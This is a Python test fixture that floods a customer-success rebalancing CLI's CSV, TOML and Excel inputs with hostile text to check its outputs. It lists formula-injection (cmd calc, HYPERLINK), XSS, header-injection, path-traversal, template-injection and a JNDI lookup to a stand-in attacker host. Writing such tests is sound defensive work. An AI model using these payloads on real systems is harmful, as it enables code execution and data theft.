"""A book with an attack in every column that takes text, and every file that the program makes of it."""

from __future__ import annotations

import csv
import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
from click.testing import CliRunner, Result

import cli
from solver.intake.identifiers import complete_crm_id

ATTACKS = (
    '=HYPERLINK("http://evil.example","click")', "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\uff1d1+1", "-2", "'=1+1", "'",
    "http://evil.example", "www.evil.example", "boss@evil.example", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    "</script><script>alert(2)</script>", "</title></style><svg onload=alert(3)>", "&lt;b&gt;", "a\u2028b", "a\nERROR all is lost",
    "a\r\nBcc: victim@evil.example", "a\nEND:VEVENT\nBEGIN:VALARM", "\x1b[2J\x1b[31mred", "\x9b31mred", "\u202egpj.exe",
    "[x](javascript:alert(4))", "![x](http://evil.example/x.png)", "| a | b |", "# head", "- [ ] x", "{{ 7*7 }}", "{% set x=1 %}", "%s%n",
    "../../etc/passwd", "a/b\\c", "CON", "-rf", "x" * 300, "Ann Lee", "ann lee", "\U0001f469\u200d\U0001f680 \u6f22\u5b57 \u05d0",
    "_x0041_", "A/B: [C]*?", "History", "caf\u00e9\u00a0x", "trailing.", "a;=1+1", "${jndi:ldap://evil.example}", "x\x01y\ufffez",
)  # fmt: skip
HEADERS = ("=1+1", "<b>x</b>", "\x1b[31mred", "contact_first_name")  # columns of the user's own
TEXTS = (*HEADERS, "name", "industry", "state", "region", "tier_override_reason", "tier_override_by")
STAFF = ("name", "manager", "industries", "certifications", "level")
GONE = "=cmd|'/C calc'!A1 <gone>"
POLICY = """as_of = 2026-10-01
departed = [{gone}]
[brief]
contact = "contact_first_name"
columns = ["state", "region", "tier_override_reason"]
[tiers.T2]
label = {tag}
[crm.salesforce]
owner = "CSM__c"
[crm.salesforce.fields]
"CS_Tier__c" = "tier"
[crm.salesforce.old]
"CS_Tier__c" = ""
[crm.salesforce.logins]
{gone} = "{login}"
[[limit]]
name = "own"
measure = "accounts"
over = "person"
max = 40
why = {tag}
"""
SCENARIO = """title = {tag}
[[csms.remove]]
csm_id = "c1"
"""


def attack(number: int) -> str:
    """One attack after the other."""
    return ATTACKS[number % len(ATTACKS)]


def account(number: int) -> str:
    """A Salesforce id."""
    return complete_crm_id(f"001Ab0000{number:06d}")


def user(number: int) -> str:
    """A Salesforce id of a user."""
    return complete_crm_id(f"005Xy0000{number:06d}")


@dataclass
class Made:
    """The folder in which all stands, what each command printed, and the names as intake reads them."""

    folder: Path
    results: dict[str, Result] = field(default_factory=dict)

    def run(self, name: str, *words: object, code: int = 0) -> Result:
        """One command; its output is kept under `name`."""
        result = CliRunner().invoke(cli.main, [str(w) for w in words])
        assert result.exit_code == code, f"{name} ended with {result.exit_code}:\n{result.output[-3000:]}\n{result.exception!r}"
        self.results[name] = result
        return result

    def files(self, *suffixes: str) -> list[Path]:
        """What the program wrote, of these kinds; not the book."""
        book = self.folder / "book"
        return sorted(p for p in self.folder.rglob("*") if p.suffix in suffixes and book not in p.parents)

    def rows(self, name: str) -> list[dict[str, str]]:
        """A table of the plan, guards removed."""
        with (self.folder / "plan" / name).open(encoding="utf-8", newline="") as file:
            return [{k: v.removeprefix("'") for k, v in row.items()} for row in csv.DictReader(file)]


def make_everything(folder: Path) -> Made:
    """Runs every command that writes on the hostile book."""
    made, book, plan = Made(folder), write_book(folder / "book"), folder / "plan"
    quick = ("--gap", "0.001", "--time-limit", "10")
    made.run("check", "check", book)
    made.run("check --json", "check", book, "--json")
    made.run("check --suggest", "check", book, "--suggest")
    made.run("score", "score", book)
    made.run("rebalance", "rebalance", book, "--out", plan, *quick)
    made.run("audit", "audit", plan)
    made.run("explain", "explain", plan, account(0))
    made.run("explain plan", "explain", plan)
    made.run("report", "report", plan, "--out", folder / "report.html")
    made.run("waves", "waves", plan, "--out", folder / "waves", *quick)
    export = _export(folder / "book" / "export.csv", made)
    made.run("handoff", "handoff", plan, "--out", folder / "handoff", "--crm", "salesforce")
    made.run("crm", "crm", plan, "--for", "salesforce", "--out", folder / "crm", "--current", export)
    arrived = ("verify-load", plan, export, "--for", "salesforce", "--results")
    for name, value, code in (("retry refused", attack(0), 3), ("verify-load", user(1), 6)):
        made.run(name, *arrived, _results(folder / "book" / "failed.csv", value), "--retry", folder / "retry.csv", code=code)
    made.run("answers", "answers", plan, *_answered(folder), "--out", folder / "plan2", *quick)
    made.run("compare", "compare", "today", plan, "--out", folder / "differences.csv")
    made.run("compare two", "compare", plan, folder / "plan2")
    made.run("frontier", "frontier", book, "--out", folder / "frontier", *quick)
    made.run("resilience", "resilience", book, "--out", folder / "resilience", *quick)
    what_if = folder / "book" / "without.toml"
    what_if.write_text(SCENARIO.format(tag=json.dumps(attack(12))), encoding="utf-8")
    made.run("scenario", "scenario", "run", what_if, "--book", book, "--out", folder / "batch", *quick)
    made.run("headcount", "headcount", book, "--time-limit", "10")
    return made


def write_book(folder: Path) -> Path:
    """One account for each attack, six CSMs, a pool, overrides."""
    folder.mkdir()
    accounts = []
    for k in range(len(ATTACKS)):
        row = {"account_id": account(k), "arr": str(30_000 + 7_000 * k), "timezone": "Europe/London", "industry": "Banking"}
        row |= {column: attack(k + c) for c, column in enumerate(TEXTS)}
        row |= {"name": attack(k), "owner": "c0" if k % 3 else GONE if k % 2 else "", "tier_override": "T2" if k % 5 == 0 else ""}
        row |= {"renewal_date": "2027-03-31", "health": str(k * 2), "tier": "T2"}
        accounts.append(row)
    csms = []
    for k in range(6):
        row = {column: attack(7 * k + c) for c, column in enumerate(STAFF)}
        row |= {"csm_id": f"c{k}", "email": f"c{k}@example.com", "timezone": "Europe/London", "tiers": "T1;T2;T3"}
        row |= {"manager": attack((0, 12, 19, 32, 37, 38)[k]), "name": attack((12, 1, 42, 24, 33, 41)[k])}
        row |= {"pool": attack(45) if k > 4 else "", "crm_user": user(k)}
        csms.append(row)
    overrides = [
        {"account_id": account(k), "action": "keep", "value": "", "reason": attack(k + 11), "by": attack(k + 12), "expires": "2027-01-31"}
        for k in range(1, len(ATTACKS), 6) if k % 3
    ]  # fmt: skip
    for name, rows in (("accounts", accounts), ("csms", csms), ("overrides", overrides)):
        _write(folder / f"{name}.csv", rows)
    tag = json.dumps(attack(12))
    (folder / "policy.toml").write_text(POLICY.format(gone=json.dumps(GONE), tag=tag, login=user(9)), encoding="utf-8")
    return folder


def _write(path: Path, rows: Sequence[Mapping[str, str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def _export(path: Path, made: Made) -> Path:
    """What the CRM holds: users of whom the plan knows, and some that are attacks."""
    rows = []
    for k, row in enumerate(made.rows("inputs/accounts.csv")):
        held = user(0) if row["owner"] == "c0" else ""
        rows.append(
            {"Id": row["account_id"], "Name": row["name"], "CSM__c": attack(21 + k) if k % 9 == 4 else held, "CS_Tier__c": ""}
        )
    return _write(path, rows)


def _results(path: Path, value: str) -> Path:
    return _write(
        path, [{"sf__Id": account(k), "sf__Error": attack(18 + k), "Id": account(k), "CSM__c": value} for k in range(8)]
    )


def _answered(folder: Path) -> list[Path]:
    """Managers' workbooks: a note of an attack in every row that may be filled in, an answer in the first of each sheet."""
    out = folder / "book" / "answered"
    out.mkdir()
    for path in sorted((folder / "handoff" / "workbooks").glob("*.xlsx")):
        opened, count = openpyxl.load_workbook(path), 0
        for page in opened:
            first = True
            for row in page.iter_rows():
                cells = [c for c in row if not c.protection.locked]
                if page.sheet_state == "visible" and cells:
                    cells[2].value, cells[2].data_type = openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("?", attack(count)), "s"
                    cells[0].value, first, count = ("accept" if first else None), False, count + 1
        opened.save(out / path.name)
    return [out]
